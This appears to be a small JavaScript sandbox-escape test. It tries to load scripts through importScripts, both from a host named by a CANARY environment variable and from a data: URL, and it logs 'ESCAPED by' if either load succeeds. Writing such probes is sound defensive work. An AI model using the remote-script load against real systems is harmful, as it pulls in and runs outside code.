// importScripts.
process.on('unhandledRejection', () => {});
const G = (0, eval)('globalThis');
const to = process.env.CANARY;
const attempt = async (what, body) => { try { const it = await body(); if (it !== undefined && it !== null) console.log('ESCAPED by', what); } catch { /* refused */ } };
attempt('importScripts', () => G.importScripts(`http://${to}/s.js`) ?? 1);
attempt('importScripts', () => G.importScripts('data:text/javascript,1') ?? 1);
